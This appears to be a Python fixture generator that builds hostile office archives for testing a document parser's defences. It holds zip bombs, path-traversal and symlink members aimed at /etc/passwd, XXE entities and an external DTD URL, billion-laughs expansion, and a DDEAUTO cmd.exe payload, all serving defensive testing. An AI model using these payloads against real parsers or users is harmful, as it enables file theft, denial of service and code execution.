"""Hostile archives: office files as bombs, with odd members, hostile XML and absurd structure."""

# ruff: noqa: E501 - data, easier to scan in long lines

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Iterator

from cases.common import Case, case

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override'
    b' PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    b'.wordprocessingml.document.main+xml"/></Types>'
)
MAIN = {"docx": "word/document.xml", "odt": "content.xml", "pptx": "ppt/presentation.xml"}
SECRET = "/etc/passwd"


def zipped(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive in memory."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", compression) as archive:
        warnings.simplefilter("ignore")
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def office(kind: str, main: bytes, **more: bytes) -> bytes:
    """An office file with this main part."""
    members = {MAIN[kind]: main, **more}
    if kind == "odt":
        return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", **members})
    return zipped({"[Content_Types].xml": TYPES if kind == "docx" else b"<Types/>", **members})


def body(kind: str, inner: str, declaration: str = "") -> bytes:
    """The main part of an office file."""
    if kind == "docx":
        text = f'<w:document xmlns:w="{W}"><w:body>{inner}</w:body></w:document>'
    elif kind == "odt":
        text = (
            f'<o:document-content xmlns:o="{OFFICE}" xmlns:t="{TEXT}"><o:body><o:text>{inner}'
            "</o:text></o:body></o:document-content>"
        )
    else:
        text = f'<p:presentation xmlns:p="{P}">{inner}</p:presentation>'
    return (declaration + text).encode()


def paragraph(kind: str, text: str) -> str:
    """A paragraph of an office file."""
    return {
        "docx": f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>",
        "odt": f"<t:p>{text}</t:p>",
        "pptx": f"<p:sldIdLst>{text}</p:sldIdLst>",
    }[kind]


def archives() -> Iterator[Case]:
    """Archives that lie, explode or hold what no document holds."""
    for kind in MAIN:
        good = body(kind, paragraph(kind, "A visit to Ghana."))
        yield case(f"bomb-spaces.{kind}", office(kind, b"<w>" + b" " * 40_000_000),
                   "limit_expansion", "corrupt")  # fmt: skip
        many = {f"part{n}.xml": b" " * 900_000 for n in range(60)}
        yield case(f"bomb-many-members.{kind}", office(kind, good, **many))
        entries = {f"m{n}": b"" for n in range(5_100)}
        yield case(f"entries.{kind}", zipped({MAIN[kind]: good, **entries}, compression=0))
        inner = zipped({"a": bytes(10_000_000)})
        yield case(f"bomb-nested.{kind}", office(kind, good, **{"inner.zip": inner}))
        data = bytearray(office(kind, b"<w>" + b"x" * 5_000_000))
        for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            position = data.find(mark)
            while position >= 0:
                data[position + at : position + at + 4] = struct.pack("<I", 10)
                position = data.find(mark, position + 4)
        yield case(f"false-size.{kind}", bytes(data))
        for label, names in {
            "traversal": ["../../../tmp/evil", "..\\..\\evil"], "absolute": ["/etc/cron.d/evil"],
            "drive": ["C:\\evil.txt"], "null": ["a\x00b"], "long": ["n" * 60_000],
            "control": ["\x1b[31mred"], "device": ["CON", "/dev/null"], "empty": [""],
            "duplicate": [MAIN[kind]], "unicode": ["\u202egnp.exe"],
        }.items():  # fmt: skip
            out = io.BytesIO(office(kind, good))
            with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
                warnings.simplefilter("ignore")
                for name in names:
                    archive.writestr(zipfile.ZipInfo(name), b"evil")
            yield case(f"name-{label}.{kind}", out.getvalue())
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            link = zipfile.ZipInfo(MAIN[kind])
            link.external_attr = 0o120777 << 16
            archive.writestr(link, SECRET)
            archive.writestr("[Content_Types].xml", TYPES)
        yield case(f"link.{kind}", out.getvalue())
        data = bytearray(office(kind, good))
        for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            position = data.find(mark)
            while position >= 0:
                data[position + at] |= 1
                position = data.find(mark, position + 4)
        yield case(f"encrypted-members.{kind}", bytes(data), "encrypted", "unsupported")
        whole = office(kind, good)
        end = whole.rfind(b"PK\x05\x06")
        for label, at, value in (
            ("far-directory", 16, 0x7FFFFFFF), ("huge-directory", 12, 0xFFFFFFF0),
            ("many-entries", 10, 0xFFFF), ("zip64", 16, 0xFFFFFFFF),
        ):  # fmt: skip
            data = bytearray(whole)
            size = "<H" if at == 10 else "<I"
            data[end + at : end + at + struct.calcsize(size)] = struct.pack(size, value)
            yield case(f"end-{label}.{kind}", bytes(data))
        yield case(f"no-directory.{kind}", whole[:end])
        yield case(f"stored-crc.{kind}", whole.replace(b"Ghana", b"Ghena"))
        yield case(f"empty-archive.{kind}", b"PK\x05\x06" + bytes(18), "corrupt", "unsupported")
        yield case(f"bzip2.{kind}", zipped({MAIN[kind]: good}, compression=zipfile.ZIP_BZIP2))
        yield case(f"lzma.{kind}", zipped({MAIN[kind]: good}, compression=zipfile.ZIP_LZMA))
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    yield case("password.docx", ole + "EncryptedPackage".encode("utf-16-le"), "encrypted")
    yield case("empty-ole.doc", ole)
    yield case("word-marker.doc", ole + "WordDocument".encode("utf-16-le") + bytes(2_000))


def documents_in_xml() -> Iterator[Case]:
    """XML that reaches out, multiplies or nests."""
    entity = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{SECRET}">]>'
    net = '<!DOCTYPE d SYSTEM "http://192.0.2.1/evil.dtd">'
    laughs = "<!DOCTYPE d [<!ENTITY a '" + "x" * 1000 + "'>" + "".join(
        f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 20}'>" for n in range(8)
    ) + "]>"  # fmt: skip
    square = f"<!DOCTYPE d [<!ENTITY q '{'x' * 50_000}'>]>"
    for kind in MAIN:
        said = paragraph(kind, "&x;&i;&q;" + "&q;" * 2_000)
        for label, declaration in {
            "entity": entity, "dtd": net, "laughs": laughs, "quadratic": square,
            "parameter": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>',
        }.items():  # fmt: skip
            yield case(f"xml-{label}.{kind}", office(kind, body(kind, said, declaration)),
                       "corrupt", "limit_expansion")  # fmt: skip
        for encoding in ("utf-16", "utf-32", "utf-7", "cp037"):
            declaration = f'<?xml version="1.0" encoding="{encoding}"?>{entity}'
            data = body(kind, said, declaration).decode().encode(encoding)
            yield case(f"xml-{encoding}.{kind}", office(kind, data), "corrupt")
        said = paragraph(kind, "deep")
        for depth in (200, 300, 5_000, 100_000):
            for tag in ("w:ins", "w:tbl") if kind == "docx" else ("t:span",):
                deep = f"<{tag}>" * depth + said + f"</{tag}>" * depth
                yield case(f"xml-deep-{depth}-{tag[2:]}.{kind}", office(kind, body(kind, deep)))
        attributes = " ".join(f'a{n}="x"' for n in range(50_000))
        yield case(f"xml-attributes.{kind}", office(kind, body(kind, f"<x {attributes}/>")))
        long = paragraph(kind, "long " * 400_000)
        yield case(f"xml-long-text.{kind}", office(kind, body(kind, long)))
        yield case(f"xml-control.{kind}", office(kind, body(kind, paragraph(kind, "\x01\x02"))))
        yield case(f"xml-not.{kind}", office(kind, b"\x00\x01\x02 this is no XML"), "corrupt")
        yield case(f"xml-empty.{kind}", office(kind, b""), "corrupt")
        yield case(f"xml-other-root.{kind}", office(kind, b"<html><body>x</body></html>"))
        unbound = body(kind, "<nobody:p>hello</nobody:p>")
        yield case(f"xml-unbound.{kind}", office(kind, unbound))
        odd = body(kind, paragraph(kind, "&#xD800;&#xFFFF;&#0;&#x1F600;"))
        yield case(f"xml-odd-letters.{kind}", office(kind, odd))


def word_structures() -> Iterator[Case]:
    """Word documents whose parts refer to themselves, to elsewhere, or to absurd numbers."""
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def related(main: str, *relations: tuple[str, str, str], **parts: bytes) -> bytes:
        listed = "".join(
            f'<Relationship Id="r{n}" Type="{kinds}/{kind}" Target="{target}" {more}/>'
            for n, (kind, target, more) in enumerate(relations)
        )
        rels = f'<Relationships xmlns="x">{listed}</Relationships>'.encode()
        return office("docx", body("docx", main), **{"word/_rels/document.xml.rels": rels}, **parts)

    said = paragraph("docx", "Hello from Accra")
    outside = 'TargetMode="External"'
    yield case("external-template.docx", related(
        said, ("attachedTemplate", "http://192.0.2.1/t.dotm", outside),
        ("image", "http://192.0.2.1/i.png", outside), ("styles", "file:///etc/passwd", outside),
    ), "ok")  # fmt: skip
    yield case("external-undeclared.docx", related(said, ("styles", "http://192.0.2.1/s", "")))
    yield case("climbing.docx", related(said, ("styles", "../../../../etc/passwd", "")))
    yield case("itself.docx", related(said, ("header", "document.xml", ""),
               ("footnotes", "document.xml", ""), ("styles", "document.xml", "")))  # fmt: skip
    circle = (
        f'<w:styles xmlns:w="{W}"><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    ).encode()
    styled = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Hi</w:t></w:r></w:p>'
    yield case("style-circle.docx", related(
        styled, ("styles", "styles.xml", ""), **{"word/styles.xml": circle}))  # fmt: skip
    chain = "".join(
        f'<w:style w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>' for n in range(20_000)
    )
    chained = f'<w:styles xmlns:w="{W}">{chain}</w:styles>'.encode()
    yield case("style-chain.docx", related(
        styled.replace('"A"', '"S0"'), ("styles", "styles.xml", ""),
        **{"word/styles.xml": chained}))  # fmt: skip
    numbers = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start'
        ' w:val="999999999999"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%1%2%9%%"/></w:lvl>'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    ).encode()
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>Item</w:t></w:r></w:p>"
    )
    items = "".join(item.format(level) for level in (0, -1, 9, 99999, "x", ""))
    yield case("numbering.docx", related(
        items, ("numbering", "numbering.xml", ""), **{"word/numbering.xml": numbers}))  # fmt: skip
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="{}"/></w:tcPr>' + said + "</w:tc>"
    spans = "".join(cell.format(span) for span in (0, -5, 99999999, "x", 1000))
    yield case("spans.docx", office("docx", body("docx", f"<w:tbl><w:tr>{spans}</w:tr></w:tbl>")))
    nested = said
    for _ in range(60):
        nested = f"<w:tbl><w:tr><w:tc>{nested}</w:tc></w:tr></w:tbl>"
    yield case("nested-tables.docx", office("docx", body("docx", nested)))
    rows = "<w:tr>" + "<w:tc/>" * 500 + "</w:tr>"
    yield case("empty-cells.docx", office("docx", body("docx", f"<w:tbl>{rows * 800}</w:tbl>")))
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    fields = f"<w:p>{field * 5_000}<w:r><w:t>x</w:t></w:r></w:p>"
    yield case("open-fields.docx", office("docx", body("docx", fields)))
    code = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield case("dde.docx", office("docx", body("docx", code + said)), "ok")
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(3_000)}
    yield case("macro.docm", office("docx", body("docx", said), **macro), "ok")
    chunk = '<w:altChunk r:id="r0" xmlns:r="x"/>'
    yield case("chunk.docx", related(chunk + said, ("aFChunk", "http://192.0.2.1/c", outside)))
    control = "<w:sdt><w:sdtContent>" * 150 + said + "</w:sdtContent></w:sdt>" * 150
    yield case("controls.docx", office("docx", body("docx", control)))
    paragraphs = said * 30_000
    yield case("paragraphs.docx", office("docx", body("docx", paragraphs)))
    lists = "<t:list><t:list-item>" * 110 + "<t:p>deep</t:p>" + "</t:list-item></t:list>" * 110
    yield case("lists.odt", office("odt", body("odt", lists)))
    repeated = f'<t:p xmlns:t="{TEXT}">a<t:s t:c="999999999"/>b<t:s t:c="-1"/></t:p>'
    yield case("spaces.odt", office("odt", body("odt", repeated)))
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    wide = (
        f'<b:table xmlns:b="{table}"><b:table-row b:number-rows-repeated="1000000"><b:table-cell'
        ' b:number-columns-repeated="1000000"><t:p>x</t:p></b:table-cell></b:table-row></b:table>'
    )
    yield case("repeated-cells.odt", office("odt", body("odt", wide)))
    manifest = {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}
    yield case("encrypted.odt", office("odt", body("odt", said), **manifest), "encrypted")
